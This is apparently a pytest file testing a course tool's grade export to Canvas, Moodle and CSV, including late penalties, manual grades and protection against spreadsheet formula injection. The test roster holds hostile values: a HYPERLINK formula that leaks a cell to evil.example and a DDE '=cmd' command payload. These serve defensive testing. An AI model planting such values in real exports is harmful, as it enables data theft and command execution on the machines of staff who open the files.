"""`course export --lms canvas|moodle|csv <set>`: the gradebook after manual grading and late
penalties, in the format each LMS imports, read from a gradebook filled by a real `course
autograde` (a late student, a TA's manual grade on C8, a student without an LMS id, a student whose
name and ids look like spreadsheet formulas and carry escape sequences); and the same Canvas file
through `nbgrader export --exporter=autograder.nbgrader.plugins.export.CanvasExport`."""
from __future__ import annotations

import csv
import datetime as dt
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from autograder import api
from autograder.grader_side.assignment import Assignment
from autograder.tooling.sampleclass import write_submission
from hostile_text import PAYLOAD, assert_clean
from nbgrader_course import ASSIGNMENT, clone_course

pytestmark = pytest.mark.slow

COURSE = str(Path(sys.executable).parent / "course")

# Canvas's gradebook import columns, in order: Student, ID, SIS User ID, SIS Login ID, Section, then an
# assignment's column (CarmenCanvas, "Import a CSV File to Carmen Grades",
# https://teaching.resources.osu.edu/toolsets/carmencanvas/guides/calculating-final-grades/import-csv-file-carmen-grades:
# "Student Name ... Student ID ... Student SIS User ID ... SIS Login ID ... Section ... Assignment Name",
# columns A to F; Canvas's own guide "How do I import grades in the Gradebook?",
# https://community.canvaslms.com/t5/Instructor-Guide/How-do-I-import-grades-in-the-Gradebook/ta-p/807).
CANVAS_DOC_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
# Canvas's gradebook export (the file its import reads back) has "Points Possible" as the row after the header.
POINTS_POSSIBLE = "Points Possible"

HOSTILE_FIRST = '=HYPERLINK("http://evil.example/?leak="&A1,"click") ' + PAYLOAD
HOSTILE_LAST = "@SUM(1+1)"
HOSTILE_LMS_ID = "-2+3"
HOSTILE_EMAIL = "=cmd|' /C calc'!A0"
LMS_IDS = {"on_time": "1001", "late": "1002", "mallory": HOSTILE_LMS_ID}   # no_lms_id has none
MANUAL_C8 = 1.5


def _stamp(when: dt.datetime) -> str:
    """timestamp.txt as nbgrader's collect writes it, in UTC."""
    return when.strftime("%Y-%m-%d %H:%M:%S.%f UTC")


@pytest.fixture(scope="module")
def graded(course, tmp_path_factory) -> Path:
    """A class graded by `course autograde` into its gradebook; then a TA's manual grade on the late
    student's C8 and the roster's names, e-mails and LMS ids, as `nbgrader db student import` writes them."""
    root = clone_course(course, tmp_path_factory.mktemp("lms-course"))
    a = Assignment(ASSIGNMENT, root)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        due = gb.find_assignment(ASSIGNMENT).duedate
    lateness = {"on_time": -dt.timedelta(hours=1), "late": dt.timedelta(days=1, hours=20),   # 2 started days: 20%
                "no_lms_id": -dt.timedelta(hours=2), "mallory": -dt.timedelta(hours=3)}
    for sid, after in lateness.items():
        folder = write_submission(root / "submitted" / sid, a)
        (folder / "timestamp.txt").write_text(_stamp(due + after))
    api.autograde(ASSIGNMENT, root / "submitted", workers=2, repo=root, gradebook=True)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        grade = next(g for nb in gb.find_submission(ASSIGNMENT, "late").notebooks for g in nb.grades
                     if g.name == "C8_answer")
        grade.manual_score = MANUAL_C8
        gb.db.commit()
        for sid in lateness:
            gb.update_or_create_student(sid, first_name=sid.title(), last_name="Doe", email=f"{sid}@example.edu",
                                        lms_user_id=LMS_IDS.get(sid))
        gb.update_or_create_student("mallory", first_name=HOSTILE_FIRST, last_name=HOSTILE_LAST,
                                    email=HOSTILE_EMAIL, lms_user_id=HOSTILE_LMS_ID)
    return root


def expected(root: Path) -> dict[str, tuple[float, float, float]]:
    """student -> (score, late penalty, score after it) as nbgrader's gradebook holds them."""
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        return {s.student_id: (s.score, s.late_submission_penalty, max(0.0, s.score - s.late_submission_penalty))
                for s in gb.assignment_submissions(ASSIGNMENT)}


def run_course(root: Path, *args: str) -> subprocess.CompletedProcess:
    done = subprocess.run([COURSE, "export", ASSIGNMENT, *args], cwd=root, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    return done


def read(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_the_gradebook_holds_a_manual_grade_and_a_late_penalty(graded):
    scores = expected(graded)
    assert scores["late"][1] == 20.0                     # 20% of the 100 points it had when autograded
    assert scores["on_time"][1] == 0 and scores["late"][0] != scores["on_time"][0]  # C8's manual grade counts


def test_canvas_file_has_the_documented_columns_and_the_scores_after_late_penalty(graded):
    done = run_course(graded, "--lms", "canvas", "--out", "canvas.csv")
    rows = read(graded / "canvas.csv")
    assert rows[0] == [*CANVAS_DOC_HEADER, ASSIGNMENT]
    assert rows[1][0].strip() == POINTS_POSSIBLE and rows[1][1:5] == ["", "", "", ""]
    with Gradebook(f"sqlite:///{graded / 'gradebook.db'}") as gb:
        assert float(rows[1][5]) == gb.find_assignment(ASSIGNMENT).max_score
    by_id = {row[1]: row for row in rows[2:]}
    scores = expected(graded)
    assert by_id["1001"] == ["Doe, On_Time", "1001", "", "", "", f"{scores['on_time'][2]:g}"]
    assert float(by_id["1002"][5]) == pytest.approx(scores["late"][2])     # manual grade, then 20% off
    assert scores["late"][2] < scores["late"][0]
    assert len(rows) == 2 + 2               # no_lms_id and mallory (an id the LMS cannot match) are not in it...
    assert "no_lms_id" not in (graded / "canvas.csv").read_text()
    missing = read(graded / "canvas-no-lms-id.csv")                          # ...but listed here
    assert missing[0][:4] == ["student_id", "last_name", "first_name", "email"]
    assert sorted(row[0] for row in missing[1:]) == ["mallory", "no_lms_id"]
    assert "2 rows written" in done.stdout and "2 students without an LMS id it can match" in done.stdout
    assert "no_lms_id" in done.stderr and "mallory" in done.stderr


def test_formula_looking_names_and_ids_are_neutralised_with_a_leading_apostrophe(graded):
    run_course(graded, "--lms", "canvas", "--out", "canvas.csv")
    run_course(graded, "--lms", "moodle", "--out", "moodle.csv")
    run_course(graded, "--lms", "csv", "--out", "plain.csv")
    names = ("canvas.csv", "moodle.csv", "plain.csv", "canvas-no-lms-id.csv", "moodle-no-lms-id.csv")
    for name in names:
        text = (graded / name).read_text(encoding="utf-8")
        assert_clean(text, name)
        for row in read(graded / name):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # An id or e-mail escaping changes would match no one in the LMS: mallory is listed, not written.
    assert "mallory" not in (graded / "canvas.csv").read_text() + (graded / "moodle.csv").read_text()
    for name in ("canvas-no-lms-id.csv", "moodle-no-lms-id.csv"):
        listed = next(row for row in read(graded / name) if row[0] == "mallory")
        assert listed[1:4] == ["'" + HOSTILE_LAST, "'" + listed[2][1:], "'" + HOSTILE_EMAIL]
        assert listed[2].startswith("'=HYPERLINK(")
    plain = next(row for row in read(graded / "plain.csv") if row[0] == "mallory")
    assert plain[4] == "'" + HOSTILE_LMS_ID                  # the plain table has everyone, neutralised


def test_moodle_file_has_an_email_column_and_a_column_per_question(graded):
    done = run_course(graded, "--lms", "moodle", "--per-question", "--out", "moodle.csv")
    rows = read(graded / "moodle.csv")
    header = rows[0]
    assert header[:4] == ["First name", "Last name", "Email address", "ID number"]
    assert header[-1] == ASSIGNMENT and f"{ASSIGNMENT}: C8_answer" in header
    by_email = {row[2]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_email) == {"on_time@example.edu", "late@example.edu", "no_lms_id@example.edu"}
    late = by_email["late@example.edu"]
    assert float(late[f"{ASSIGNMENT}: C8_answer"]) == MANUAL_C8
    assert float(late[ASSIGNMENT]) == pytest.approx(expected(graded)["late"][2])
    assert "3 rows written" in done.stdout and "1 student without an LMS id it can match" in done.stdout


def test_plain_csv_has_every_student_and_both_sides_of_the_penalty(graded):
    run_course(graded, "--lms", "csv", "--out", "plain.csv")
    rows = read(graded / "plain.csv")
    header = rows[0]
    assert header[:5] == ["student_id", "last_name", "first_name", "email", "lms_user_id"]
    table = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(table) == {"on_time", "late", "no_lms_id", "mallory"}
    for sid, (raw, penalty, after) in expected(graded).items():
        assert float(table[sid]["score_before_late_penalty"]) == pytest.approx(raw)
        assert float(table[sid]["late_penalty"]) == pytest.approx(penalty)
        assert float(table[sid]["score_after_late_penalty"]) == pytest.approx(after)


def test_nbgrader_export_with_the_canvas_exporter_writes_the_same_file(graded):
    run_course(graded, "--lms", "canvas", "--out", "canvas.csv")
    done = api.nbgrader("export", "--exporter=autograder.nbgrader.plugins.export.CanvasExport",
                        "--to=nbgrader-canvas.csv", "--log-level=WARN", repo=graded, check=False)
    assert done.returncode == 0, done.stderr[-3000:]
    assert read(graded / "nbgrader-canvas.csv") == read(graded / "canvas.csv")
    assert read(graded / "nbgrader-canvas-no-lms-id.csv") == read(graded / "canvas-no-lms-id.csv")
